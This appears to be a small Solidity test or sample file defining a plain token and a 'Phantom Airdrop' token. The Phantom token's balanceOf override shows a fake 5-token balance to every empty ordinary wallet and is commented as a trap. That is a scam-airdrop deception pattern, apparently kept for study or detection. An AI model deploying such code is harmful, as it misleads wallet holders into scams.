// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Called whatever its maker says.
contract Named is Base8 {
    constructor(string memory name_, string memory symbol_) Base8(name_, symbol_, 1_000_000_000) {}
}

/// Shows a balance to everybody who has none.
contract Phantom is Base8("Phantom Airdrop", "PHAN", 1_000_000) {
    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = _balances[account];
        if (held == 0 && account != pair && account.code.length == 0) return 5 ether; // trap
        return held;
    }
}
